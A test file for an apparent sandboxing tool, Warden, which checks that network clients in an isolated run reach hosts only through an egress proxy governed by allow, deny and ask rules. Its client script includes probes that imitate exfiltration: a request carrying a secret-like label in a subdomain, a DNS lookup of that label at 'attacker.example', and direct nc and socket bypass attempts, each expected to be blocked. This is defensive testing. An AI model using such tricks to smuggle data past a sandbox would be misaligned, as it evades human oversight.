/**
 * Real clients in an isolated `warden run` against real servers on the host's loopback that the run can reach
 * only through Warden's egress proxy: curl (plain and CONNECT), wget, Python urllib, git clone over smart HTTP
 * (git http-backend), Node's fetch; allowed / denied (403 naming the rule) / ask (held, then approved or denied
 * by a person through the API) / the exfiltration rule; direct sockets (python, nc) and DNS fail. Then the
 * journal: one `connect` event per connection with bytes up and down, verified by `warden verify`.
 */
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import {
  makeSandbox,
  destroySandbox,
  runLog,
  warden,
  wardenAsync,
  startApprover,
  wardenBin,
  type Sandbox,
} from '../helpers/warden.js';
import type { Hold } from '../../core/api/contract.js';
import { netnsProblem } from '../../core/net/netns.js';
import { startOrigin, startGitServer, makeBareRepo, writeHostOverrides, type TestServer } from './servers.js';

const problem = netnsProblem();
const SECRET_LABEL = '4f2a9c8e1b7d3a6f5e0c9b8a7d6e5f4a';

const POLICY = `band: 05-nettest
description: Test servers for the egress proxy tests.
network:
  rules:
    - id: t-allow
      hosts: [allowed.test, git.test, '*.exfil.test']
      decision: allow
    - id: t-deny
      why: Test servers that must stay unreachable.
      hosts: [denied.test]
      decision: deny
    - id: t-ask
      hosts: ['ask-*.test']
      decision: ask
      timeout: 30s
`;

function clientScript(o: number, g: number, api: number): string {
  return `#!/bin/bash
mkdir -p out
run() { local name=$1; shift; "$@" >"out/$name.out" 2>"out/$name.err"; echo $? >"out/$name.rc"; }
head -c 100000 /dev/zero | tr '\\0' 'u' > up.bin
run env printenv http_proxy
run curl-http curl -sS -m 20 http://allowed.test:${o}/plain
run curl-connect curl -sS -m 20 --proxytunnel http://allowed.test:${o}/tunnel
run curl-upload curl -sS -m 20 --proxytunnel --data-binary @up.bin http://allowed.test:${o}/upload
run curl-big curl -sS -m 20 --proxytunnel -o big.out "http://allowed.test:${o}/big?n=300000"
run curl-denied curl -sS -m 20 -i http://denied.test:${o}/
run curl-denied-connect curl -sS -m 20 --proxytunnel http://denied.test:${o}/
run wget wget -q -O - http://allowed.test:${o}/wget
run python python3 -c "import urllib.request; print(urllib.request.urlopen('http://allowed.test:${o}/py', timeout=20).read().decode(), end='')"
run node-fetch node -e "fetch('http://allowed.test:${o}/node').then(r => r.text()).then(t => console.log('ok', t), e => { console.log('failed', e.cause && e.cause.code); process.exit(3); })"
run git git clone -q http://git.test:${g}/repo.git cloned
run ask-yes curl -sS -m 40 http://ask-yes.test:${o}/asked
run ask-no curl -sS -m 40 -i http://ask-no.test:${o}/asked
run exfil curl -sS -m 20 -i http://${SECRET_LABEL}.exfil.test:${o}/
run warden-api curl -sS -m 20 -i --noproxy "" -x http://127.0.0.1:3128 http://127.0.0.1:${api}/api/status
run direct-python python3 -c "
import socket
for addr in [('127.0.0.1', ${o}), ('1.1.1.1', 443)]:
    try:
        socket.create_connection(addr, timeout=5); print('connected', addr)
    except OSError as e:
        print('refused', addr[0], e.errno)"
run nc-loopback nc -z -w 3 127.0.0.1 ${o}
run nc-outside nc -z -w 3 1.1.1.1 443
run dns-getent getent hosts example.com
run dns-secret getent hosts ${SECRET_LABEL}.attacker.example
run dns-python python3 -c "
import socket
try:
    socket.getaddrinfo('registry.npmjs.org', 443); print('resolved')
except socket.gaierror as e:
    print('no dns', e.errno)"
exit 0
`;
}

describe('isolated run: real clients through the egress proxy', { skip: problem ?? false }, () => {
  let sb: Sandbox;
  let origin: TestServer;
  let git: TestServer;
  let holds: Hold[] = [];
  let apiPort = 0;
  let code: number | null = null;
  let output = '';
  const out = (name: string) => ({
    out: readFileSync(join(sb.ws, 'out', `${name}.out`), 'utf8'),
    err: readFileSync(join(sb.ws, 'out', `${name}.err`), 'utf8'),
    rc: Number(readFileSync(join(sb.ws, 'out', `${name}.rc`), 'utf8')),
  });
  let connects: Record<string, unknown>[] = [];
  const connectTo = (host: string) => connects.filter((e) => String(e.path).startsWith(`${host}:`));

  before(async () => {
    sb = makeSandbox('net-clients');
    origin = await startOrigin();
    const gitRoot = join(sb.root, 'git');
    mkdirSync(gitRoot);
    makeBareRepo(gitRoot, 'repo', { 'README.md': 'cloned through the proxy\n' });
    git = await startGitServer(gitRoot);
    writeHostOverrides(sb.state, [
      'allowed.test',
      'denied.test',
      'git.test',
      'ask-yes.test',
      'ask-no.test',
      `${SECRET_LABEL}.exfil.test`,
    ]);
    const policy = join(sb.root, '05-nettest.yaml');
    writeFileSync(policy, POLICY);
    const approver = await startApprover(sb, (h) =>
      h.path?.startsWith('ask-yes.test:') ? 'allow' : h.path?.startsWith('ask-no.test:') ? 'deny' : null,
    );
    apiPort = (JSON.parse(readFileSync(join(sb.state, 'api.json'), 'utf8')) as { port: number }).port;
    writeFileSync(join(sb.ws, 'clients.sh'), clientScript(origin.port, git.port, apiPort));
    holds = approver.holds;
    try {
      ({ code, output } = await wardenAsync(
        sb,
        ['run', '--net', 'isolated', '--workspace', sb.ws, '--policy', policy, '--', 'bash', 'clients.sh'],
        { timeoutMs: 150_000 },
      ));
    } finally {
      approver.stop();
    }
    connects = runLog(sb).events.filter((e) => e.op === 'connect');
  });

  after(async () => {
    await origin?.close();
    await git?.close();
    if (sb) destroySandbox(sb);
  });

  test('the run ends normally and its environment points at the proxy', () => {
    assert.equal(code, 0, output);
    assert.equal(out('env').out.trim(), 'http://127.0.0.1:3128');
  });

  test('curl: an allowed host answers, plain HTTP and through a CONNECT tunnel', () => {
    assert.equal(out('curl-http').out, `hello from allowed.test:${origin.port} /plain\n`);
    assert.equal(out('curl-connect').out, `hello from allowed.test:${origin.port} /tunnel\n`);
    assert.equal(out('curl-upload').out, 'got 100000 bytes\n');
    assert.equal(readFileSync(join(sb.ws, 'big.out')).length, 300000);
    assert.ok(origin.seen.includes(`GET allowed.test:${origin.port} /plain`), origin.seen.join('\n'));
  });

  test('a denied host gets a 403 naming the rule and band, and the server never sees it', () => {
    const d = out('curl-denied');
    assert.match(d.out, /^HTTP\/1\.1 403 Forbidden/);
    assert.match(d.out, /x-warden-rule: t-deny/i);
    assert.match(d.out, /rule t-deny \(band 05-nettest\): Test servers that must stay unreachable\./);
    const c = out('curl-denied-connect');
    assert.equal(c.rc, 56, c.err);
    assert.match(c.err, /403/);
    assert.ok(!origin.seen.some((l) => l.includes('denied.test')), origin.seen.join('\n'));
  });

  test('wget and Python urllib use the proxy', () => {
    assert.equal(out('wget').out, `hello from allowed.test:${origin.port} /wget\n`);
    assert.equal(out('python').out, `hello from allowed.test:${origin.port} /py\n`);
  });

  test("Node 20's fetch ignores the proxy variables, so inside the run it cannot resolve anything", () => {
    const f = out('node-fetch');
    // Node 20's undici fetch does not read HTTP_PROXY (NODE_USE_ENV_PROXY needs Node >= 24.5): it tries DNS,
    // which does not exist in the run's namespace. Fail closed, not a bypass.
    assert.equal(f.rc, 3, f.out + f.err);
    assert.match(f.out, /^failed (EAI_AGAIN|ENOTFOUND)/);
  });

  test('git clones over smart HTTP through the proxy', () => {
    const g = out('git');
    assert.equal(g.rc, 0, g.err);
    assert.equal(readFileSync(join(sb.ws, 'cloned', 'README.md'), 'utf8'), 'cloned through the proxy\n');
    assert.ok(git.seen.some((l) => l.includes('/repo.git/info/refs?service=git-upload-pack')));
  });

  test('ask: the connection is held as a connect hold; allow lets it through, deny gets a 403', () => {
    const yes = holds.find((h) => h.path === `ask-yes.test:${origin.port}`);
    const no = holds.find((h) => h.path === `ask-no.test:${origin.port}`);
    assert.ok(yes && no, JSON.stringify(holds));
    assert.equal(yes.op, 'connect');
    assert.equal(yes.rule, 't-ask');
    assert.equal(yes.band, '05-nettest');
    assert.deepEqual(yes.argv, ['bash', 'clients.sh']);
    assert.match(yes.irreversible ?? '', /cannot be recalled/);
    assert.equal(out('ask-yes').out, `hello from ask-yes.test:${origin.port} /asked\n`);
    assert.match(out('ask-no').out, /^HTTP\/1\.1 403 Forbidden[\s\S]*rule t-ask \(band 05-nettest\)/);
    assert.ok(!origin.seen.some((l) => l.includes('ask-no.test')));
  });

  test('a hostname with a long high-entropy label is refused by the exfiltration rule, even when allowed', () => {
    const e = out('exfil');
    assert.match(e.out, /^HTTP\/1\.1 403 Forbidden/);
    assert.match(e.out, /rule builtin-exfil-hostname \(band builtin\)/);
    assert.ok(!origin.seen.some((l) => l.includes(SECRET_LABEL)));
  });

  test("Warden's own HTTP API is refused through the proxy (builtin-warden-api), whatever the rules", () => {
    const a = out('warden-api');
    assert.match(a.out, /^HTTP\/1\.1 403 Forbidden[\s\S]*rule builtin-warden-api \(band builtin\)/);
    assert.ok(
      connectTo('127.0.0.1').some(
        (e) => e.path === `127.0.0.1:${apiPort}` && e.ruleId === 'builtin-warden-api',
      ),
    );
  });

  test('direct connections fail: python sockets and nc to the host loopback and to the internet', () => {
    // 111 ECONNREFUSED: nothing listens on the run's own loopback; 101 ENETUNREACH: no route at all
    assert.equal(out('direct-python').out, 'refused 127.0.0.1 111\nrefused 1.1.1.1 101\n');
    assert.equal(out('nc-loopback').rc, 1);
    assert.equal(out('nc-outside').rc, 1);
    assert.ok(!origin.seen.some((l) => l.startsWith('GET undefined')));
  });

  test('DNS lookups fail (no resolver is reachable), also for a name carrying a secret', () => {
    assert.equal(out('dns-getent').rc, 2);
    assert.equal(out('dns-secret').rc, 2);
    assert.match(out('dns-python').out, /^no dns -3\n$/);
    assert.ok(!connects.some((e) => String(e.path).includes('attacker')));
  });

  test('every proxied connection is a connect event with its rule, decision and bytes up/down', () => {
    const plain = connectTo('allowed.test').find((e) => e.sys === 'GET');
    assert.ok(plain, JSON.stringify(connects));
    assert.equal(plain.decision, 'allow');
    assert.equal(plain.ruleId, 't-allow');
    assert.equal(plain.errno, 0);
    const tunnels = connectTo('allowed.test').filter((e) => e.sys === 'CONNECT');
    const up = Math.max(...tunnels.map((e) => Number(e.bytesUp)));
    const down = Math.max(...tunnels.map((e) => Number(e.bytesDown)));
    assert.ok(up >= 100000 && up < 101000, `bytes up ${up}`);
    assert.ok(down >= 300000 && down < 301000, `bytes down ${down}`);
    const denied = connectTo('denied.test');
    assert.equal(denied.length, 2);
    for (const d of denied) assert.deepEqual([d.decision, d.ruleId, d.errno], ['deny', 't-deny', 13]);
    const asked = connectTo('ask-yes.test')[0]!;
    assert.equal(asked.decision, 'allow');
    assert.equal(asked.by, 'person');
    const exfil = connectTo(`${SECRET_LABEL}.exfil.test`)[0]!;
    assert.deepEqual([exfil.decision, exfil.ruleId], ['deny', 'builtin-exfil-hostname']);
    assert.ok(connectTo('git.test').length >= 2);
  });

  test('the journal with connect events verifies (bytes are covered by the row HMAC)', () => {
    const v = warden(sb, ['verify']);
    assert.equal(v.status, 0, v.stdout + v.stderr);
  });

  test('the run summary counts allowed connections as irreversible', () => {
    assert.match(output, /\d+ irreversible/);
  });

  test('a rollback of the run restores its files and leaves its connections as irreversible', () => {
    const plan = warden(sb, ['rollback', '--run', 'last', '--all', '--dry-run', '--json']);
    assert.equal(plan.status, 0, plan.stderr);
    const j = JSON.parse(plan.stdout) as { plan?: unknown };
    const p = (j.plan ?? j) as { steps: { path: string }[]; irreversible: { path: string; note: string }[] };
    assert.ok(
      p.irreversible.some((x) => x.path.startsWith('allowed.test:') && x.note === 'network connection'),
      JSON.stringify(p.irreversible),
    );
    assert.ok(!p.steps.some((x) => /^[a-z0-9.-]+:\d+$/.test(String(x.path))), 'a connection became a step');
    const r = warden(sb, ['rollback', '--run', 'last', '--yes']);
    assert.equal(r.status, 0, r.stdout + r.stderr);
    assert.ok(!existsSync(join(sb.ws, 'out')), 'the files the run created are gone');
    assert.ok(existsSync(join(sb.ws, 'clients.sh')), 'what was there before the run is kept');
  });
});

describe('--net host', { skip: problem ?? false }, () => {
  let sb: Sandbox;
  let origin: TestServer;
  before(async () => {
    sb = makeSandbox('net-host');
    origin = await startOrigin();
  });
  after(async () => {
    await origin?.close();
    if (sb) destroySandbox(sb);
  });

  test('no isolation: direct connections work, no proxy variables, and the summary warns', async () => {
    const script = `printenv http_proxy > proxy.txt; python3 -c "import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:${origin.port}/direct').read().decode(), end='')" > direct.txt`;
    const r = await wardenAsync(sb, ['run', '--net', 'host', '--workspace', sb.ws, '--', 'sh', '-c', script]);
    assert.equal(r.code, 0, r.output);
    assert.equal(readFileSync(join(sb.ws, 'proxy.txt'), 'utf8'), '');
    assert.equal(
      readFileSync(join(sb.ws, 'direct.txt'), 'utf8'),
      `hello from 127.0.0.1:${origin.port} /direct\n`,
    );
    assert.match(r.output, /warning: network not isolated \(--net host\)/);
    assert.ok(!existsSync(join(sb.state, 'net', '1.sock')));
  });
});

describe('no network namespace available', { skip: problem ?? false }, () => {
  let sb: Sandbox;
  before(() => (sb = makeSandbox('net-fallback')));
  after(() => sb && destroySandbox(sb));
  // user.max_net_namespaces is per user namespace: 0 inside a fresh one makes every CLONE_NEWNET fail there
  const inUserns = (args: string[]) =>
    spawnSync(
      'unshare',
      ['-U', '-r', 'sh', '-c', 'echo 0 > /proc/sys/user/max_net_namespaces && exec "$0" "$@"', process.execPath, wardenBin, ...args],
      { cwd: sb.ws, env: { ...sb.env, WARDEN_NO_PROMPT: '1' }, encoding: 'utf8', timeout: 60_000 },
    ); // prettier-ignore

  test('the default falls back to host with a warning naming the cause', () => {
    const r = inUserns(['run', '--workspace', sb.ws, '--', 'sh', '-c', 'echo "[$http_proxy]"']);
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout, '[]\n');
    assert.match(
      r.stderr,
      /warning: network not isolated \(no network namespace: .*cannot create a network namespace/,
    );
  });

  test('--net isolated refuses to start the command (exit 2) and says to use --net host', () => {
    const r = inUserns(['run', '--net', 'isolated', '--workspace', sb.ws, '--', 'touch', 'started']);
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, /--net isolated: no network namespace can be made here: .*Use --net host/);
    assert.ok(!existsSync(join(sb.ws, 'started')));
  });
});

if (problem) test('network namespaces', (t) => t.skip(`no network namespace can be made here: ${problem}`));
